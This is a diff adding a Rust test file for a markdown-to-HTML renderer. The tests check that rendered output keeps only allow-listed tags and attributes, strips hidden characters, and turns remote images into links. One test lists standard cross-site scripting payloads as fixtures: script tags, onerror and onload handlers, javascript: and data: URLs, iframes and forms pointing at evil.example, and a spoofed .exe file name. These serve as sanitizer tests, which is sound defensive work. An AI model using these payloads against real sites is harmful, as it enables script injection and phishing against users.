@@ -1,0 +1,201 @@
+//! Whatever a model writes, the tree holds only harmless elements.
+
+use super::*;
+
+/// Every element and attribute that may ever appear.
+const TAGS: &[&str] = &[
+    "p",
+    "h3",
+    "h4",
+    "h5",
+    "h6",
+    "blockquote",
+    "pre",
+    "code",
+    "ol",
+    "ul",
+    "li",
+    "div",
+    "table",
+    "thead",
+    "tr",
+    "th",
+    "td",
+    "em",
+    "strong",
+    "del",
+    "a",
+    "span",
+    "img",
+    "br",
+    "hr",
+    "input",
+];
+const ATTRIBUTES: &[&str] = &[
+    "tabindex",
+    "data-language",
+    "start",
+    "class",
+    "href",
+    "target",
+    "rel",
+    "data-host",
+    "src",
+    "alt",
+    "type",
+    "disabled",
+    "checked",
+    "aria-label",
+];
+
+fn check(node: &Node, source: &str) {
+    let Node::Element(element) = node else { return };
+    assert!(
+        TAGS.contains(&element.tag),
+        "<{}> from {source}",
+        element.tag
+    );
+    for (name, value) in &element.attributes {
+        assert!(ATTRIBUTES.contains(name), "{name} from {source}");
+        match *name {
+            "href" => assert!(links::link(value).is_some(), "{value} from {source}"),
+            "src" => assert!(links::picture(value).is_some(), "{value} from {source}"),
+            _ => {}
+        }
+    }
+    for child in &element.children {
+        check(child, source);
+    }
+}
+
+fn shown(source: &str) -> String {
+    read(source, "").iter().map(words_of).collect()
+}
+
+fn outline(node: &Node) -> String {
+    match node {
+        Node::Text(text) => text.clone(),
+        Node::Element(element) => {
+            let inside: String = element.children.iter().map(outline).collect();
+            format!("<{}>{inside}</{0}>", element.tag)
+        }
+    }
+}
+
+fn outlined(source: &str) -> String {
+    read(source, "").iter().map(outline).collect()
+}
+
+#[test]
+fn the_common_constructs_become_their_elements() {
+    for (source, expected) in [
+        (
+            "# A\n\nb *c* **d** ~~e~~ `f`",
+            "<h3>A</h3><p>b <em>c</em> <strong>d</strong> <del>e</del> <code>f</code></p>",
+        ),
+        ("1. a\n2. b", "<ol><li>a</li><li>b</li></ol>"),
+        (
+            "- [x] a\n- [ ] b",
+            "<ul><li><input></input>a</li><li><input></input>b</li></ul>",
+        ),
+        ("```rust\nlet a;\n```", "<pre><code>let a;\n</code></pre>"),
+        ("> q", "<blockquote><p>q</p></blockquote>"),
+        ("a  \nb\n***", "<p>a<br></br>b</p><hr></hr>"),
+        (
+            "|a|b|\n|-|-:|\n|1|2|\n|3|4|",
+            "<div><table><thead><tr><th>a</th><th>b</th></tr></thead><tr><td>1</td><td>2</td></tr><tr><td>3</td><td>4</td></tr></table></div>",
+        ),
+        ("[a](https://b.example)", "<p><a>a</a></p>"),
+    ] {
+        assert_eq!(outlined(source), expected, "{source}");
+    }
+}
+
+#[test]
+fn markup_is_text() {
+    let source = "<script>alert(1)</script>\n\nx <img src=x onerror=alert(1)> y";
+    assert!(shown(source).contains("<script>alert(1)</script>"));
+    assert!(shown(source).contains("<img src=x onerror=alert(1)>"));
+    for node in read(source, "") {
+        check(&node, source);
+    }
+}
+
+/// Hostile pieces, joined in every pair and put into every construct.
+#[test]
+fn no_text_makes_a_foreign_element_or_attribute() {
+    let pieces = [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "<svg onload=alert(1)>",
+        "<a href=\"javascript:alert(1)\">x</a>",
+        "[x](javascript:alert(1))",
+        "[x](JAVASCRIPT:alert(1) \"t\")",
+        "[x](data:text/html;base64,PHNjcmlwdD4=)",
+        "![x](javascript:alert(1))",
+        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
+        "![x](https://tracker.example/?q=secret)",
+        "<javascript:alert(1)>",
+        "[x]: javascript:alert(1)\n\n[x]",
+        "<style>*{display:none}</style>",
+        "<iframe src=//evil.example>",
+        "<!-- --><b onmouseover=alert(1)>",
+        "# h {#id .class onclick=x}",
+        "[^1]: note\n\nsee [^1]",
+        "&lt;script&gt;&#x3C;b&#x3E;",
+        "```html\"onload=x\n<b>\n```",
+        "| <b> | \n|---|\n| [x](vbscript:1) |",
+        "<details ontoggle=alert(1) open>",
+        "\u{202e}txt.exe\u{2066}",
+        "<div style=\"position:fixed\">",
+        "1. <form action=//evil.example>",
+    ];
+    for first in pieces {
+        for second in pieces {
+            for source in [
+                format!("{first}\n\n{second}"),
+                format!("- {first}\n  - {second}"),
+                format!("> {first}{second}"),
+                format!("**{first}** `{second}`"),
+            ] {
+                for node in read(&source, "") {
+                    check(&node, &source);
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn a_picture_from_elsewhere_is_a_link() {
+    let nodes = read("![cat](https://tracker.example/cat.png)", "");
+    assert_eq!(
+        nodes.iter().map(outline).collect::<String>(),
+        "<p><a>cat</a></p>"
+    );
+}
+
+#[test]
+fn hidden_characters_are_taken_out_and_joiners_stay() {
+    assert_eq!(shown("a\u{202e}b\u{200b}c\u{e0041}d"), "abcd");
+    assert_eq!(shown("👩\u{200d}👧"), "👩\u{200d}👧");
+}
+
+#[test]
+fn too_much_is_shown_as_plain_text() {
+    let deep = "> ".repeat(200) + "x";
+    assert!(outlined(&deep).starts_with("<pre>"));
+    let long = "*a* ".repeat(30_000);
+    assert!(outlined(&long).starts_with("<pre>"));
+    let huge = "a".repeat(MAX_BYTES + 1);
+    assert!(outlined(&huge).starts_with("<pre>"));
+}
+
+#[test]
+fn definitions_from_elsewhere_are_used() {
+    let nodes = read("[a][b]", "[b]: https://c.example");
+    assert_eq!(
+        nodes.iter().map(outline).collect::<String>(),
+        "<p><a>a</a></p>"
+    );
+}
